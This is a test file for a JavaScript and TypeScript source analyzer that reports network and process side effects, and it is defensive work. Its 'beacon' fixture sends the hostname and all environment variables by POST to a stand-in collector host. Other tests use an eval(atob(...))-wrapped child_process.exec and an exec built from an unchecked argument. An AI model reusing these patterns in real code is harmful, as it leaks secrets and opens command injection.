import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { analyzeSource } from "./analyze-source.ts";
import { apiTable } from "./data/api-table.ts";
import { codeLimits } from "./limits.ts";
import type { Effect, SourceFacts } from "./source-facts.ts";

function read(text: string): SourceFacts {
  return analyzeSource({ path: "index.js", text, language: "javascript" });
}

function summary({ kind, api, argument, sources, runs }: Effect): string {
  return `${kind} ${api} ${argument ?? ""} ${sources.join()} ${runs}`;
}

const beacon = `const os = require("os"); const https = require("https");
const request = https.request({ hostname: "collector.invalid", path: "/c", method: "POST" });
request.end(JSON.stringify({ host: os.hostname(), all: process.env }));`;

describe("analyzeSource", () => {
  test.each([
    ["return at the top", "return 1;"],
    ["await at the top", "await import('./a.js');"],
    ["a hashbang", "#!/usr/bin/env node\nlet a = 1;"],
    ["a byte order mark before a hashbang", "\uFEFF#!/usr/bin/env node\nlet a = 1;"],
    ["an HTML comment", "<!-- x\nvar a = 1;"],
    ["with and octal numbers", "with (a) { b = 010; }"],
    ["using", "{ using a = open(); }"],
    ["sets in regular expressions", "const a = /[\\p{L}--[a-z]]/v;"],
    ["import attributes", "import a from './a.json' with { type: 'json' };"],
    ["half a character", "const a = '\uD800';"],
    ["types in JavaScript", "const a: number = 1; export type B = string;"],
    ["markup in JavaScript", "const a = <p onClick={() => fetch('https://a.invalid')}>x</p>;"],
  ])("accepts %s", (_, text) => {
    expect(read(text).parsed).toBe("strict");
  });

  test("reads what does not parse tolerantly, and says so", () => {
    const facts = read("require('child_process').exec('echo hi'); var = 5;");

    expect(facts.parsed).toBe("tolerant");
    expect(facts.problem).toBeDefined();
    expect(facts.effects.map(({ kind }) => kind)).toContain("process");
  });

  test("reads what TypeScript only declares, such as an overload", () => {
    const text =
      "export function a(x: string): string;\nexport function a(x: any) { return fetch(x); }\ndeclare function b(): void;";

    const { parsed, effects } = analyzeSource({ path: "a.ts", text, language: "typescript" });

    expect(parsed).toBe("strict");
    expect(effects.map(({ api }) => api)).toEqual(["fetch"]);
  });

  test("tells a beacon with what it sends", () => {
    const { effects } = read(beacon);

    const sent = effects.find(({ kind }) => kind === "network");
    expect(sent).toMatchObject({
      argument: "https://collector.invalid/c",
      sources: ["environment", "host-facts"],
    });
    expect(sent?.options).toContain("method-POST");
  });

  test("places effects of a decoded layer where it is run", () => {
    const { effects } = read(`\n  eval(atob("${btoa("require('child_process').exec('echo hi')")}"));`);

    expect(effects.find(({ kind }) => kind === "process")).toMatchObject({
      layer: 1,
      location: { line: 2, column: 3 },
    });
  });

  test("writes unknown parts of an argument as such", () => {
    const { effects } = read(
      "module.exports = (x) => require('child_process').exec(`git clone ${x} /tmp/a`);",
    );

    expect(effects[0]).toMatchObject({ argument: "git clone ${…} /tmp/a", runs: "call" });
  });

  test("keeps effects within the limit, and says that there were more", () => {
    const text = Array.from({ length: 50 }, (_, index) => `fetch("https://a.invalid/${index}");`).join("\n");

    const facts = analyzeSource(
      { path: "a.js", text, language: "javascript" },
      { ...codeLimits, maxEffects: 10 },
    );

    expect(facts.effects).toHaveLength(10);
    expect(facts.problem).toBe("more effects than are kept");
  });

  test("reads head and tail of a source that is too long", () => {
    const text = `${"a();\n".repeat(500)}require('child_process').exec('echo hi');`;

    const facts = analyzeSource(
      { path: "a.js", text, language: "javascript" },
      { ...codeLimits, maxCharacters: 400 },
    );

    expect(facts.problem).toBe("longer than 400 characters");
    expect(facts.effects.map(({ kind }) => kind)).toEqual(["process"]);
  });

  test.each([
    ["parentheses", "(".repeat(20_000)],
    ["closed parentheses", `${"(".repeat(20_000)}1${")".repeat(20_000)}`],
    ["arrays", `${"[".repeat(20_000)}${"]".repeat(20_000)}`],
    ["functions", `${"function f(){".repeat(5_000)}${"}".repeat(5_000)}`],
    ["negations", `${"!".repeat(50_000)}1`],
    ["calls", `${"f(".repeat(20_000)}${")".repeat(20_000)}`],
    ["a long sum", Array.from({ length: 20_000 }, () => "'a'").join("+")],
    ["a chain of members", `a${".b()".repeat(20_000)}`],
    ["a loop without an end", "for (let i = 0; ; i++) { let s = ''; s += String.fromCharCode(i); }"],
    ["calls without an end", "function f(a) { return f(a + 1) + f(a + 2); } f(1);"],
    ["a text that doubles", "let s = 'aa'; while (true) s += s;"],
  ])("comes to an end for 20,000-fold or endless code: %s", (_, text) => {
    expect(["strict", "tolerant", "failed"]).toContain(read(text).parsed);
  });

  test.each(["__proto__", "constructor", "toString", "hasOwnProperty"])(
    "takes %s for a name like others",
    (name) => {
      const text = `const a = {}; a.${name} = 1; ${name}(1); require("os").${name}(2); x["${name}"](); new ${name}();`;

      expect(read(text).parsed).toBe("strict");
    },
  );

  test("never throws, whatever the text", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (text) => {
        expect(read(text).language).toBe("javascript");
      }),
      { numRuns: 300 },
    );
  });

  test("never throws for pieces of code in any order", () => {
    const pieces = beacon
      .split(/(?<=[;,(){}.])/)
      .concat(["`${a}`", "async ()=>", "class A extends", "[...x]", "?.", "eval(", "new "]);

    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
        expect(read(parts.join("")).language).toBe("javascript");
      }),
      { numRuns: 300 },
    );
  });

  test("tells the same of a text inside code that does nothing", () => {
    const plain = read(beacon).effects.map(summary);

    const wrapped = read(`function idle(a) { let s = 0; for (let i = 0; i < 10; i++) s += i; return s; }
idle(3); (function () { ${beacon} })(); const rest = [1, 2, 3].map((x) => x * 2);`).effects.map(summary);

    expect(wrapped).toEqual(plain);
  });

  test("tells the same whatever the names", () => {
    const names = fc.stringMatching(/^[a-z]{1,6}_[0-9]{1,4}$/);

    fc.assert(
      fc.property(
        fc.uniqueArray(names, { minLength: 3, maxLength: 3 }),
        ([first = "a_1", second = "b_2", third = "c_3"]) => {
          const renamed = beacon
            .replaceAll(/\bos\b(?!")/g, first)
            .replaceAll(/\bhttps\b(?!")/g, second)
            .replaceAll(/\brequest\b(?=\.| =)/g, third)
            .replace(`${second}.${third}`, `${second}.request`);
          expect(read(renamed).effects.map(summary)).toEqual(read(beacon).effects.map(summary));
        },
      ),
      { numRuns: 30 },
    );
  });
});

test("apiTable names only paths, kinds and shapes that are read", () => {
  const shapes = new Set(["text", "path", "url", "command", "spawn", "script", "host", "none"]);

  for (const [path, entry] of apiTable) {
    expect(path).toMatch(/^[@\w]/);
    expect(shapes).toContain(entry.shape);
    expect(Number.isInteger(entry.at)).toBe(true);
  }
});
